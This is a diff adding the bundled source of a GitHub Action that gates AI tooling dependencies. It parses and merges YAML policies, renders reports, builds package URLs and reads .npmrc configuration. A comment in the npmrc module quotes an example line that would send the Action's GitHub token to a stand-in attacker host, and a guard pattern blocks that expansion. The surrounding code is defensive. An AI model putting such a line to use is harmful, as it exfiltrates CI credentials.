+        prev[0] = i;
+        for (let j = 1; j <= b.length; j++) {
+            const up = prev[j];
+            prev[j] = Math.min(up + 1, prev[j - 1] + 1, diag + (a[i - 1] === b[j - 1] ? 0 : 1));
+            diag = up;
+        }
+    }
+    return prev[b.length];
+}
+const KEYS = {
+    policy: ['$schema', 'version', 'extends', 'settings', 'rules', 'exceptions'],
+    settings: ['unknownVersion'],
+    rule: ['id', 'tool', 'ecosystem', 'package', 'versions', 'action', 'reason', 'link', 'locked'],
+    exception: ['rule', 'package', 'versions', 'paths', 'reason', 'expires'],
+};
+function keysFor(path) {
+    if (path.length === 0)
+        return KEYS.policy;
+    if (path[0] === 'settings')
+        return KEYS.settings;
+    if (path[0] === 'rules')
+        return KEYS.rule;
+    if (path[0] === 'exceptions')
+        return KEYS.exception;
+    return [];
+}
+/** Turns a zod issue into located, human messages. */
+function issueMessages(issue, data, loc) {
+    const path = issue.path;
+    const where = pathText(path);
+    const value = valueAt(data, path);
+    const at = (o, message) => ({ ...o, message });
+    const present = value !== undefined && loc.has(path);
+    switch (issue.code) {
+        case 'unrecognized_keys':
+            return issue.keys.map((k) => at(loc.key(path, k), `${pathText([...path, k])}: unknown key${didYouMean(k, keysFor(path))}`));
+        case 'invalid_type': {
+            if (!present)
+                return [at(loc.at(path), `${where}: is required`)];
+            const expected = issue.expected;
+            let what;
+            if (expected === 'array')
+                what = `must be a list, not ${parse_describe(value)}`;
+            else if (expected === 'object')
+                what = `must be a mapping, not ${parse_describe(value)}`;
+            else if (expected === 'boolean')
+                what = `must be true or false, not ${parse_describe(value)}`;
+            else if (expected === 'string' && (typeof value === 'number' || typeof value === 'boolean'))
+                what = `must be a string (quote it: "${String(value)}")`;
+            else
+                what = `must be ${expected === 'string' ? 'a string' : expected}, not ${parse_describe(value)}`;
+            return [at(loc.at(path), `${where}: ${what}`)];
+        }
+        case 'invalid_value': {
+            if (!present)
+                return [at(loc.at(path), `${where}: is required`)];
+            const last = path[path.length - 1];
+            if (last === 'version' && path.length === 1)
+                return [at(loc.at(path), `version: must be 1, not ${parse_describe(value)}`)];
+            if (last === 'tool')
+                return [
+                    at(loc.at(path), `${where}: unknown tool ${parse_describe(value)}${didYouMean(String(value), TOOL_IDS)}; \`ai-tooling-gate catalog\` lists the tools`),
+                ];
+            const values = issue.values.map(String);
+            const hint = typeof value === 'string' ? didYouMean(value, values) : '';
+            return [
+                at(loc.at(path), `${where}: must be one of ${values.join(', ')}, not ${parse_describe(value)}${hint}`),
+            ];
+        }
+        case 'too_small':
+            return [at(loc.at(path), `${where}: must not be empty`)];
+        case 'invalid_format': {
+            const last = path[path.length - 1];
+            if (last === 'id')
+                return [
+                    at(loc.at(path), `${where}: ${parse_describe(value)} is not a valid rule id (letters, digits and . _ : / -, starting with a letter or digit)`),
+                ];
+            if (last === 'expires')
+                return [at(loc.at(path), `${where}: ${parse_describe(value)} is not a date (YYYY-MM-DD)`)];
+            return [at(loc.at(path), `${where}: ${parse_describe(value)} has the wrong format`)];
+        }
+        default:
+            return [at(loc.at(path), `${where}: ${issue.message}`)];
+    }
+}
+/** Whether YYYY-MM-DD names a real day. */
+function isRealDate(s) {
+    const m = /^(\d{4})-(\d{2})-(\d{2})$/.exec(s);
+    if (!m)
+        return false;
+    const d = new Date(Date.UTC(Number(m[1]), Number(m[2]) - 1, Number(m[3])));
+    return (d.getUTCFullYear() === Number(m[1]) &&
+        d.getUTCMonth() === Number(m[2]) - 1 &&
+        d.getUTCDate() === Number(m[3]));
+}
+const MAX_POLICY_BYTES = 1024 * 1024;
+/**
+ * Parses and validates one policy file (no `extends` resolution, no cross-file checks). Throws a
+ * PolicyError listing every problem found, each located.
+ */
+function parse_parsePolicyFile(file, text) {
+    if (text.length > MAX_POLICY_BYTES) {
+        throw new parse_PolicyError(file, 1, 1, `is larger than ${MAX_POLICY_BYTES} bytes: not a policy file`);
+    }
+    const lines = new dist/* LineCounter */.HN();
+    const doc = (0,dist/* parseDocument */.Tp)(text.replace(/^\uFEFF/, ''), {
+        lineCounter: lines,
+        prettyErrors: false,
+        // Duplicate keys are found below, located at the duplicate (the parser locates the mapping).
+        uniqueKeys: false,
+        version: '1.2',
+    });
+    if (doc.errors.length > 0) {
+        throw parse_PolicyError.of(doc.errors.map((err) => {
+            const pos = err.linePos?.[0];
+            return {
+                file,
+                line: pos?.line ?? 1,
+                column: pos?.col ?? 1,
+                message: `not valid YAML: ${err.message.split('\n')[0]}`,
+            };
+        }));
+    }
+    const duplicates = [];
+    (0,dist/* visit */.YR)(doc, {
+        Map(_, map) {
+            const first = new Map();
+            for (const pair of map.items) {
+                if (!(0,dist/* isScalar */.jn)(pair.key) || !pair.key.range)
+                    continue;
+                const k = String(pair.key.value);
+                const p = lines.linePos(pair.key.range[0]);
+                const before = first.get(k);
+                if (before === undefined)
+                    first.set(k, pair.key.range[0]);
+                else {
+                    const f = lines.linePos(before);
+                    duplicates.push({
+                        file,
+                        line: p.line,
+                        column: p.col,
+                        message: `duplicate key "${k}" (first at line ${f.line})`,
+                    });
+                }
+            }
+        },
+    });
+    if (duplicates.length > 0)
+        throw parse_PolicyError.of(duplicates);
+    const loc = new Locator(file, doc, lines);
+    let data;
+    try {
+        data = doc.toJS({ maxAliasCount: 100 });
+    }
+    catch (e) {
+        throw new parse_PolicyError(file, 1, 1, `not a usable policy: ${e.message.split('\n')[0]}`);
+    }
+    if (data === null || data === undefined || typeof data !== 'object' || Array.isArray(data)) {
+        const o = loc.at([]);
+        throw new parse_PolicyError(file, o.line, o.column, `a policy must be a mapping with "version: 1", not ${parse_describe(data)}`);
+    }
+    const result = policySchema.safeParse(data);
+    const issues = [];
+    if (!result.success) {
+        for (const issue of result.error.issues)
+            issues.push(...issueMessages(issue, data, loc));
+    }
+    // Semantic checks that need several fields; run on the raw data so that every problem is reported.
+    issues.push(...semanticIssues(data, loc));
+    if (issues.length > 0)
+        throw parse_PolicyError.of(sortIssues(dedupeIssues(issues)));
+    const doc1 = result.data;
+    const fieldOrigins = new WeakMap();
+    const fieldsOf = (path, obj) => {
+        const out = {};
+        for (const k of Object.keys(obj))
+            out[k] = loc.at([...path, k]);
+        return out;
+    };
+    const rules = (doc1.rules ?? []).map((r, i) => {
+        const rule = {
+            id: r.id,
+            ...(r.tool !== undefined ? { tool: r.tool } : {}),
+            ...(r.ecosystem !== undefined ? { ecosystem: r.ecosystem } : {}),
+            ...(r.package !== undefined ? { package: r.package } : {}),
+            ...(r.versions !== undefined ? { versions: r.versions } : {}),
+            action: r.action ?? 'fail',
+            ...(r.reason !== undefined ? { reason: r.reason } : {}),
+            ...(r.link !== undefined ? { link: r.link } : {}),
+            ...(r.locked !== undefined ? { locked: r.locked } : {}),
+            origin: loc.at(['rules', i, 'id']),
+        };
+        fieldOrigins.set(rule, fieldsOf(['rules', i], r));
+        return rule;
+    });
+    const exceptions = (doc1.exceptions ?? []).map((e, i) => {
+        const ex = {
+            rule: e.rule,
+            ...(e.package !== undefined ? { package: e.package } : {}),
+            ...(e.versions !== undefined ? { versions: e.versions } : {}),
+            ...(e.paths !== undefined ? { paths: e.paths } : {}),
+            reason: e.reason,
+            expires: e.expires,
+            origin: loc.at(['exceptions', i]),
+        };
+        fieldOrigins.set(ex, fieldsOf(['exceptions', i], e));
+        return ex;
+    });
+    return {
+        file,
+        extends: (doc1.extends ?? []).map((ref, i) => ({ ref, origin: loc.at(['extends', i]) })),
+        ...(doc1.settings?.unknownVersion !== undefined ? { unknownVersion: doc1.settings.unknownVersion } : {}),
+        rules,
+        exceptions,
+        fieldOrigins,
+    };
+}
+function dedupeIssues(issues) {
+    const seen = new Set();
+    return issues.filter((i) => {
+        const k = formatIssue(i);
+        if (seen.has(k))
+            return false;
+        seen.add(k);
+        return true;
+    });
+}
+function sortIssues(issues) {
+    return issues.sort((a, b) => a.line - b.line || a.column - b.column);
+}
+/** The syntax a rule's `versions` is written in: the tool's version line, or the ecosystem's. */
+function rangeSyntaxOfRule(r) {
+    if (typeof r.tool === 'string') {
+        const tool = catalog.tool(r.tool);
+        return tool ? tool.versionScheme : null;
+    }
+    if (typeof r.ecosystem === 'string' && ECOSYSTEMS.includes(r.ecosystem)) {
+        return syntaxOf(r.ecosystem);
+    }
+    return null;
+}
+function isRecord(v) {
+    return v !== null && typeof v === 'object' && !Array.isArray(v);
+}
+/** Checks across the fields of one rule or exception, and within one file (duplicate ids). */
+function semanticIssues(data, loc) {
+    const issues = [];
+    const at = (o, message) => void issues.push({ ...o, message });
+    const rules = Array.isArray(data.rules) ? data.rules : [];
+    const firstId = new Map();
+    rules.forEach((r, i) => {
+        if (!isRecord(r))
+            return;
+        const p = ['rules', i];
+        const where = pathText(p);
+        const hasTool = r.tool !== undefined;
+        const hasEco = r.ecosystem !== undefined;
+        const hasPkg = r.package !== undefined;
+        if (hasTool && (hasEco || hasPkg)) {
+            at(loc.key(p, hasEco ? 'ecosystem' : 'package'), `${where}: a rule names either a tool or an ecosystem and a package, not both`);
+        }
+        else if (!hasTool && !hasEco && !hasPkg) {
+            at(loc.at(p), `${where}: a rule needs a tool, or an ecosystem and a package`);
+        }
+        else if (!hasTool && hasEco && !hasPkg) {
+            at(loc.key(p, 'ecosystem'), `${where}.package: is required with ecosystem (use "*" for every package)`);
+        }
+        else if (!hasTool && !hasEco && hasPkg) {
+            at(loc.key(p, 'package'), `${where}.ecosystem: is required with package (one of ${ECOSYSTEMS.join(', ')})`);
+        }
+        if (typeof r.versions === 'string' && r.versions.trim() !== '') {
+            const syntax = rangeSyntaxOfRule(r);
+            if (syntax) {
+                const check = validateRange(syntax, r.versions);
+                if (!check.ok)
+                    at(loc.at([...p, 'versions']), `${where}.versions: ${check.message}`);
+            }
+        }
+        if (typeof r.id === 'string' && RULE_ID.test(r.id)) {
+            const first = firstId.get(r.id);
+            const here = loc.at([...p, 'id']);
+            if (first)
+                at(here, `${where}.id: duplicate rule id "${r.id}" (first at ${formatOrigin(first)})`);
+            else
+                firstId.set(r.id, here);
+        }
+    });
+    const exceptions = Array.isArray(data.exceptions) ? data.exceptions : [];
+    exceptions.forEach((e, i) => {
+        if (!isRecord(e))
+            return;
+        const p = ['exceptions', i];
+        if (typeof e.expires === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(e.expires) && !isRealDate(e.expires)) {
+            at(loc.at([...p, 'expires']), `${pathText([...p, 'expires'])}: ${JSON.stringify(e.expires)} is not a real day`);
+        }
+        if (Array.isArray(e.paths)) {
+            e.paths.forEach((g, j) => {
+                if (typeof g !== 'string')
+                    return;
+                const w = pathText([...p, 'paths', j]);
+                if (g.startsWith('/') || /^[A-Za-z]:[\\/]/.test(g))
+                    at(loc.at([...p, 'paths', j]), `${w}: ${JSON.stringify(g)} must be relative to the repository root`);
+                else if (g.split('/').includes('..'))
+                    at(loc.at([...p, 'paths', j]), `${w}: ${JSON.stringify(g)} must not leave the repository (..)`);
+                else if (g.includes('\\'))
+                    at(loc.at([...p, 'paths', j]), `${w}: ${JSON.stringify(g)} must use / separators`);
+            });
+        }
+    });
+    return issues;
+}
+
+;// CONCATENATED MODULE: ./src/policy/load.ts
+// Loads a policy with every `extends` merged in, through injectable readers (the action reads the
+// policy of a pull request's BASE commit; `github:` references go through the caller's reader).
+//
+// Merge rules (documented in docs and the schema):
+// - files are merged in order: everything a file extends (depth first, in the order listed) before
+//   the file itself; a file reached twice is merged once, where it is first reached;
+// - a later file may override an earlier rule by id, replacing it, unless the earlier rule is
+//   `locked: true`: then any redefinition is an error naming both places;
+// - exceptions accumulate; an exception to a locked rule is valid only in the file that defines the
+//   rule (a locked rule exists so that the files that extend it cannot weaken it);
+// - `settings.unknownVersion`: the last file that sets it wins (default warn), except for locked
+//   rules: their unknown versions are judged at least as strictly as the file that defines them
+//   says (built-in advisories: at least warn), so `ignore` in a later file cannot silence them;
+// - every exception must name a rule of the merged policy.
+
+
+
+
+
+
+const GITHUB_REF = /^github:([A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?)\/([A-Za-z0-9._-]+)\/([^@]+)@([^@\s]+)$/;
+const MAX_EXTENDS_DEPTH = 32;
+function githubRef(text) {
+    const m = GITHUB_REF.exec(text);
+    if (!m)
+        return null;
+    const path = external_node_path_.posix.normalize(m[3]);
+    if (path.startsWith('../') || path === '..' || path.startsWith('/'))
+        return null;
+    const id = `github:${m[1].toLowerCase()}/${m[2].toLowerCase()}/${path}@${m[4]}`;
+    return {
+        kind: 'github',
+        owner: m[1],
+        repo: m[2],
+        path,
+        ref: m[4],
+        id,
+        display: `github:${m[1]}/${m[2]}/${path}@${m[4]}`,
+    };
+}
+/** Resolves an `extends` entry against the file that names it; a string error when it cannot be. */
+function resolveExtends(entry, parent) {
+    if (entry.startsWith('builtin:')) {
+        return isBuiltinName(entry)
+            ? { kind: 'builtin', name: entry, id: entry, display: entry }
+            : `unknown built-in policy "${entry}" (known: ${BUILTIN_NAMES.join(', ')})`;
+    }
+    if (entry.startsWith('github:')) {
+        return githubRef(entry) ?? `"${entry}" must be github:OWNER/REPO/PATH@REF`;
+    }
+    if (/^[a-z][a-z0-9+.-]*:/i.test(entry) && !/^[A-Za-z]:[\\/]/.test(entry)) {
+        return `"${entry}": only builtin:, github: and relative paths can be extended`;
+    }
+    if (entry.startsWith('/') || /^[A-Za-z]:[\\/]/.test(entry)) {
+        return `"${entry}" must be a path relative to this file`;
+    }
+    switch (parent.kind) {
+        case 'builtin':
+            return `"${entry}": a built-in policy cannot extend a path`;
+        case 'file': {
+            const path = (0,external_node_path_.resolve)((0,external_node_path_.dirname)(parent.path), entry);
+            const display = external_node_path_.posix.normalize(external_node_path_.posix.join(external_node_path_.posix.dirname(parent.display.replace(/\\/g, '/')), entry));
+            return { kind: 'file', path, id: path, display };
+        }
+        case 'github': {
+            const path = external_node_path_.posix.normalize(external_node_path_.posix.join(external_node_path_.posix.dirname(parent.path), entry));
+            if (path.startsWith('../') || path === '..')
+                return `"${entry}" leaves the repository ${parent.owner}/${parent.repo}`;
+            const ref = githubRef(`github:${parent.owner}/${parent.repo}/${path}@${parent.ref}`);
+            return ref ?? `"${entry}" is not a usable path`;
+        }
+    }
+}
+function rootRef(ref) {
+    if (isBuiltinName(ref))
+        return { kind: 'builtin', name: ref, id: ref, display: ref };
+    if (ref.startsWith('builtin:')) {
+        throw new parse_PolicyError(ref, 0, 0, `unknown built-in policy (known: ${BUILTIN_NAMES.join(', ')})`);
+    }
+    if (ref.startsWith('github:')) {
+        const g = githubRef(ref);
+        if (!g)
+            throw new parse_PolicyError(ref, 0, 0, 'must be github:OWNER/REPO/PATH@REF');
+        return g;
+    }
+    const path = (0,external_node_path_.resolve)(ref);
+    return { kind: 'file', path, id: path, display: ref };
+}
+async function defaultReadFile(path) {
+    try {
+        const s = await (0,promises_.stat)(path);
+        if (!s.isFile())
+            throw new Error('not a file');
+        if (s.size > 1024 * 1024)
+            throw new Error(`${s.size} bytes is too large for a policy file`);
+        return await (0,promises_.readFile)(path, 'utf8');
+    }
+    catch (e) {
+        if (e.code === 'ENOENT')
+            return null;
+        throw e;
+    }
+}
+/** Reads one policy; errors are located at `at` (the extends entry) or at the file itself. */
+async function readPolicy(ref, at, options) {
+    const fail = (message) => {
+        if (at)
+            throw new parse_PolicyError(at.file, at.line, at.column, message);
+        throw new parse_PolicyError(ref.display, 0, 0, message);
+    };
+    switch (ref.kind) {
+        case 'builtin':
+            return builtinPolicyFile(ref.name);
+        case 'file': {
+            let text;
+            try {
+                text = await (options.readFile ?? defaultReadFile)(ref.path);
+            }
+            catch (e) {
+                return fail(`${at ? `extends: ${ref.display} ` : ''}cannot be read: ${e.message}`);
+            }
+            if (text === null)
+                return fail(at ? `extends: ${ref.display} does not exist` : 'does not exist');
+            return parse_parsePolicyFile(ref.display, text);
+        }
+        case 'github': {
+            if (!options.readGithub)
+                return fail(`github: extends need a token: set GITHUB_TOKEN (${ref.display})`);
+            let text;
+            try {
+                text = await options.readGithub(ref.owner, ref.repo, ref.path, ref.ref);
+            }
+            catch (e) {
+                return fail(`${at ? 'extends: ' : ''}${ref.display} cannot be read: ${e.message.split('\n')[0]}`);
+            }
+            return parse_parsePolicyFile(ref.display, text);
+        }
+    }
+}
+/** Loads a file and everything it extends, depth first; files in merge order. */
+async function loadTree(ref, at, chain, seen, out, options) {
+    const parsed = await readPolicy(ref, at, options);
+    const here = [...chain, ref];
+    for (const entry of parsed.extends) {
+        const child = resolveExtends(entry.ref, ref);
+        if (typeof child === 'string') {
+            throw new parse_PolicyError(entry.origin.file, entry.origin.line, entry.origin.column, `extends: ${child}`);
+        }
+        const cycleAt = here.findIndex((r) => r.id === child.id);
+        if (cycleAt >= 0) {
+            const names = [...here.slice(cycleAt), child].map((r) => r.display).join(' → ');
+            throw new parse_PolicyError(entry.origin.file, entry.origin.line, entry.origin.column, `extends: cycle: ${names}`);
+        }
+        if (here.length >= MAX_EXTENDS_DEPTH) {
+            throw new parse_PolicyError(entry.origin.file, entry.origin.line, entry.origin.column, `extends: more than ${MAX_EXTENDS_DEPTH} levels of extends`);
+        }
+        if (seen.has(child.id))
+            continue;
+        await loadTree(child, entry.origin, here, seen, out, options);
+    }
+    if (!seen.has(ref.id)) {
+        seen.add(ref.id);
+        out.push({ ref, parsed });
+    }
+}
+/** Merges loaded files in order; throws every merge problem, located. */
+function mergePolicyFiles(files) {
+    const issues = [];
+    const problem = (o, message) => {
+        issues.push({ file: o?.file ?? '', line: o?.line ?? 0, column: o?.column ?? 0, message });
+    };
+    const rules = new Map();
+    const exceptions = [];
+    const fieldOriginsOf = new Map();
+    let unknownVersion = 'warn';
+    for (const { ref, parsed } of files) {
+        if (parsed.unknownVersion !== undefined)
+            unknownVersion = parsed.unknownVersion;
+        for (const rule of parsed.rules) {
+            const r = { ...rule, definedIn: ref.id };
+            if (r.locked && (parsed.unknownVersion === 'warn' || parsed.unknownVersion === 'fail')) {
+                r.unknownVersionFloor = parsed.unknownVersion;
+            }
+            const earlier = rules.get(r.id);
+            if (earlier?.locked) {
+                problem(r.origin, `rule "${r.id}" is locked by ${formatOrigin(earlier.origin)} and cannot be overridden or loosened here`);
+                continue;
+            }
+            if (earlier)
+                rules.delete(r.id);
+            rules.set(r.id, r);
+        }
+        for (const ex of parsed.exceptions) {
+            const e = { ...ex, definedIn: ref.id };
+            exceptions.push(e);
+            fieldOriginsOf.set(e, parsed.fieldOrigins.get(ex));
+        }
+    }
+    for (const ex of exceptions) {
+        const rule = rules.get(ex.rule);
+        const fields = fieldOriginsOf.get(ex);
+        const ruleField = fields?.rule ?? ex.origin;
+        if (!rule) {
+            const known = [...rules.keys()];
+            problem(ruleField, `exception for rule "${ex.rule}": no such rule in the merged policy${known.length ? ` (rules: ${known.slice(0, 10).join(', ')}${known.length > 10 ? ', …' : ''})` : ''}`);
+            continue;
+        }
+        if (rule.locked && rule.definedIn !== ex.definedIn) {
+            problem(ruleField, `exception for rule "${ex.rule}": the rule is locked by ${formatOrigin(rule.origin)}; only that file may grant exceptions to it`);
+            continue;
+        }
+        if (ex.versions !== undefined) {
+            const syntax = rangeSyntaxOfRule(rule);
+            if (syntax) {
+                const check = validateRange(syntax, ex.versions);
+                if (!check.ok)
+                    problem(fields?.versions ?? ruleField, `exception for rule "${ex.rule}": versions: ${check.message}`);
+            }
+        }
+    }
+    if (issues.length > 0)
+        throw parse_PolicyError.of(issues);
+    return {
+        version: 1,
+        settings: { unknownVersion },
+        rules: [...rules.values()],
+        exceptions,
+        sources: files.map((f) => f.ref.display),
+    };
+}
+/** Loads a policy by path, `builtin:NAME` or `github:OWNER/REPO/PATH@REF`, with every `extends` merged in. */
+async function loadPolicy(ref, options = {}) {
+    const root = rootRef(ref);
+    const files = [];
+    await loadTree(root, null, [], new Set(), files, options);
+    return mergePolicyFiles(files);
+}
+/** Parses one policy text on its own (no extends), e.g. for editors and tests. */
+function parsePolicyText(file, text) {
+    const parsed = parsePolicyFile(file, text);
+    if (parsed.extends.length > 0) {
+        const e = parsed.extends[0];
+        throw new PolicyError(e.origin.file, e.origin.line, e.origin.column, 'extends: use loadPolicy to resolve extends');
+    }
+    return mergePolicyFiles([{ ref: { kind: 'file', path: file, id: file, display: file }, parsed }]);
+}
+
+;// CONCATENATED MODULE: ./src/report.ts
+function buildReport(input) {
+    const active = input.findings.filter((f) => f.status !== 'removed');
+    const summary = {
+        filesScanned: input.filesScanned,
+        components: input.components,
+        failed: active.filter((f) => f.action === 'fail').length,
+        warned: active.filter((f) => f.action === 'warn').length,
+        passed: active.filter((f) => f.action === 'pass').length,
+    };
+    if (input.mode === 'diff') {
+        summary.introduced = input.findings.filter((f) => f.status === 'introduced' && f.action !== 'pass').length;
+        summary.removed = input.findings.filter((f) => f.status === 'removed').length;
+    }
+    return {
+        schemaVersion: 1,
+        mode: input.mode,
+        findings: input.findings,
+        errors: input.errors,
+        notices: input.notices,
+        summary,
+        policy: { sources: input.policySources },
+    };
+}
+/** The findings that fail the gate under a `fail-on` setting. */
+function gateFindings(report, failOn) {
+    if (failOn === 'never')
+        return [];
+    return report.findings.filter((f) => f.action === 'fail' &&
+        f.status !== 'removed' &&
+        (failOn === 'any' || report.mode !== 'diff' || f.status === 'introduced'));
+}
+/** Whether the gate fails: a failing finding, or an input that had to be scanned and could not be read. */
+function gateFails(report, failOn, gatingErrors = report.errors) {
+    if (failOn === 'never')
+        return false;
+    return gateFindings(report, failOn).length > 0 || gatingErrors.length > 0;
+}
+
+;// CONCATENATED MODULE: ./src/reporters/json.ts
+function renderJson(report) {
+    return JSON.stringify(report, null, 2) + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/reporters/text.ts
+function where(f) {
+    return `${f.location.file}:${f.location.line}`;
+}
+function label(f) {
+    const s = f.action === 'fail' ? 'FAIL' : f.action === 'warn' ? 'WARN' : 'PASS';
+    return f.status ? `${s} ${f.status}` : s;
+}
+/** Human-readable scan report: one line a finding, then errors, notices and a summary line. */
+function renderScanText(report) {
+    const lines = [];
+    const order = { fail: 0, warn: 1, pass: 2 };
+    const findings = [...report.findings].sort((a, b) => order[a.action] - order[b.action] || where(a).localeCompare(where(b), 'en'));
+    for (const f of findings) {
+        lines.push(`${label(f)}  ${where(f)}  [${f.ruleId}] ${f.message}`);
+        if (f.exception)
+            lines.push(`      excepted until ${f.exception.expires}: ${f.exception.reason}`);
+    }
+    for (const e of report.errors) {
+        lines.push(`ERROR ${e.file}${e.line ? ':' + e.line : ''}${e.column ? ':' + e.column : ''}  ${e.message}`);
+    }
+    for (const n of report.notices) {
+        lines.push(`NOTE  ${n.origin ? `${n.origin.file}:${n.origin.line}  ` : ''}${n.message}`);
+    }
+    const s = report.summary;
+    const diff = report.mode === 'diff' ? `, ${s.introduced ?? 0} introduced, ${s.removed ?? 0} removed` : '';
+    lines.push(`${s.filesScanned} files scanned, ${s.components} components: ${s.failed} failed, ${s.warned} warned, ${s.passed} excepted${diff}, ${report.errors.length} errors`);
+    return lines.join('\n') + '\n';
+}
+function renderInventoryText(report) {
+    const lines = [];
+    for (const c of report.components) {
+        const version = c.version ?? `(${c.spec ?? 'unknown'})`;
+        const alias = c.alias ? ` as ${c.alias}` : '';
+        lines.push(`${c.location.file}:${c.location.line}  ${c.ecosystem}  ${c.name}@${version}${alias}  [${c.source}]`);
+    }
+    for (const e of report.errors) {
+        lines.push(`ERROR ${e.file}${e.line ? ':' + e.line : ''}  ${e.message}`);
+    }
+    lines.push(`${report.summary.filesScanned} files scanned, ${report.summary.components} components, ${report.errors.length} errors`);
+    return lines.join('\n') + '\n';
+}
+
+// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
+var npa = __nccwpck_require__(78056);
+var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
+// EXTERNAL MODULE: ./node_modules/packageurl-js/index.js
+var packageurl_js = __nccwpck_require__(87091);
+;// CONCATENATED MODULE: ./src/util/purl.ts
+
+/**
+ * Builds the Package URL of a component. npm scopes become the purl namespace
+ * (`pkg:npm/%40scope/name@1.0.0`); PyPI names are PEP 503-normalised by packageurl-js.
+ * A null version is left out of the purl.
+ */
+function purlFor(ecosystem, name, version) {
+    try {
+        switch (ecosystem) {
+            case 'npm':
+            case 'jsr': {
+                const slash = name.startsWith('@') ? name.indexOf('/') : -1;
+                const ns = slash > 0 ? name.slice(0, slash) : undefined;
+                const base = slash > 0 ? name.slice(slash + 1) : name;
+                return new packageurl_js.PackageURL(ecosystem, ns, base, version ?? undefined).toString();
+            }
+            case 'pypi':
+                return new packageurl_js.PackageURL('pypi', undefined, name, version ?? undefined).toString();
+            case 'vscode-extension': {
+                const dot = name.indexOf('.');
+                return new packageurl_js.PackageURL('vscode-extension', dot > 0 ? name.slice(0, dot) : undefined, dot > 0 ? name.slice(dot + 1) : name, version ?? undefined).toString();
+            }
+            case 'github-action': {
+                const [owner, repo, ...rest] = name.split('/');
+                return new packageurl_js.PackageURL('githubactions', owner, repo ?? name, version ?? undefined, undefined, rest.length ? rest.join('/') : undefined).toString();
+            }
+            case 'devcontainer-feature': {
+                // OCI ids are registry/namespace/name: keep them whole as a qualifier-free generic purl.
+                const i = name.lastIndexOf('/');
+                return new packageurl_js.PackageURL('generic', i > 0 ? 'devcontainer-feature/' + name.slice(0, i) : 'devcontainer-feature', i > 0 ? name.slice(i + 1) : name, version ?? undefined).toString();
+            }
+            case 'homebrew':
+                return new packageurl_js.PackageURL('homebrew', undefined, name, version ?? undefined).toString();
+            case 'installer':
+                return new packageurl_js.PackageURL('generic', 'installer', name, version ?? undefined).toString();
+        }
+    }
+    catch {
+        // Names from hostile files can be anything; never let purl construction throw.
+    }
+    return `pkg:generic/${encodeURIComponent(ecosystem)}/${encodeURIComponent(name)}${version ? '@' + encodeURIComponent(version) : ''}`;
+}
+
+;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
+// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
+// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
+// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
+// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
+// a pull request could use.
+
+
+const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
+/** `.npmrc` files are small; a larger one is not a config file. */
+const MAX_NPMRC_BYTES = 256 * 1024;
+/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
+const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
+/**
+ * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
+ * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
+ * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
+ * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
+ */
+const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
+const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
+/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
+function parseNpmrc(text) {
+    const entries = [];
+    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].trim();
+        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
+            continue;
+        const eq = line.indexOf('=');
+        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
+        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
+        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
+            try {
+                const parsed = JSON.parse(value);
+                if (typeof parsed === 'string')
+                    value = parsed;
+            }
+            catch {
+                value = value.slice(1, -1);
+            }
+        }
+        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
+            value = value.slice(1, -1);
+        }
+        if (key !== '')
+            entries.push({ key, value, line: i + 1 });
+    }
+    return entries;
+}
+/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
+function expand(value, env, project) {
+    let missing = null;
+    let forbidden = null;
+    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
+        if (esc.length % 2 === 1)
+            return whole.slice(1);
+        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
+            forbidden ??= name;
+            return '';
+        }
+        const v = env[name];
+        if (v === undefined) {
+            if (!optional)
+                missing ??= name;
+            return esc;
+        }
+        return esc + v;
+    });
+    if (forbidden !== null)
+        return { forbidden };
+    if (missing !== null)
+        return { missing };
+    return { value: out };
+}
+/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
+function normalizeRegistry(raw) {
+    let url;
+    try {
+        url = new URL(raw.trim());
+    }
+    catch {
+        return null;
+    }
+    if (url.protocol !== 'http:' && url.protocol !== 'https:')
+        return null;
+    url.hash = '';
+    url.search = '';
+    if (!url.pathname.endsWith('/'))
+        url.pathname += '/';
+    return url.toString();
+}
+/** A registry URL fit for messages: no credentials, query or fragment. */
+function displayRegistry(registry) {
+    try {
+        const url = new URL(registry);
+        url.username = '';
+        url.password = '';
+        url.search = '';
+        url.hash = '';
+        return url.toString();
+    }
+    catch {
+        return '(invalid registry URL)';
+    }
+}
+function readOptional(path) {
+    try {
+        const buf = (0,external_node_fs_.readFileSync)(path);
+        if (buf.length > MAX_NPMRC_BYTES)
+            return null;
+        return buf.toString('utf8');
+    }
+    catch {
+        return null;
+    }
+}
+function envValue(env, name) {
+    const lower = name.toLowerCase();
+    for (const [k, v] of Object.entries(env))
+        if (k.toLowerCase() === lower && v !== undefined)
+            return v;
+    return undefined;
+}
+/**
+ * Reads the npm configuration that decides where packages are looked up, in npm's order of
